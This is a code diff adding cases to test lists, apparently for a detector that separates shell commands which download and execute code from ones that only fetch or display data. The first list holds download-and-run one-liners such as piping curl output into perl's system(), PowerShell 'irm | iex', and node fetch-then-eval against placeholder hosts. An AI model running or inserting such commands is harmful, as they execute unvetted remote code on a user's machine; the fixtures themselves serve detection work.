@@ -134,6 +134,16 @@ export const FETCHED_AND_RUN: readonly string[] = lines(`
   curl -o x u; ninja -f x
   curl -o x.jar u; java -jar x.jar
   curl -o x.go u; go run x.go
+  curl -o x.go u; go run -race -tags a main.go x.go
+  curl -o x.jar u; java -Xmx1g -cp lib -jar x.jar data.csv
+  curl -o x.jar u; java -cp x.jar Main
+  curl -o A.java u; java A.java
+  curl u | perl -ne 'system($_)'
+  curl u | ruby -e 'system gets'
+  curl u | mytool -l -- bash
+  node -e 'fetch("http://x").then(eval)'
+  pwsh -c 'irm http://x | iex'
+  lua -e 'load(http.request("http://x"))()'
   curl -o x.c u; gcc x.c -o y && ./y
   curl -o x.c u; cc x.c; ./a.out
   curl -o x.rs u; rustc x.rs && ./x
@@ -198,6 +208,19 @@ export const FETCHED_ONLY: readonly string[] = lines(`
   curl -o x.json u; CONFIG=y.json node a.js
   curl -o x.json u; gcc a.c -o b && ./b
   curl -o x.csv u; go run main.go
+  curl -sO https://x/data.csv && go run . data.csv
+  curl -sO https://x/data.csv && go run -race . data.csv
+  curl -sO https://x/data.csv && go run a.go b.go data.csv
+  curl -sO https://x/data.csv && java -jar app.jar data.csv
+  curl -sO https://x/data.csv && java -cp lib Main data.csv
+  curl -s https://x/a.sh | pygmentize -l bash
+  curl -s https://x/a.sh | shfmt -ln bash
+  curl -s https://x/a.sh | bat -l sh
+  curl -s https://x | perl -ne 'print if /system requirements/'
+  python3 -c "import json,urllib.request as u; print(json.load(u.urlopen('http://localhost:8080/api')))"
+  ruby -ryaml -ropen-uri -e 'p YAML.load(URI.open("https://x"))'
+  python3 -c "print('note: get started with the map system')"
+  python3 -c "print('firm: the pipe system')"
   f=$(mktemp); curl u -o "$f"; cat "$f"
   python3 -c 'import requests; print(requests.get("http://x").text)'
   python3 -c 'import requests, json; d=requests.get("http://x").json(); print(d)'
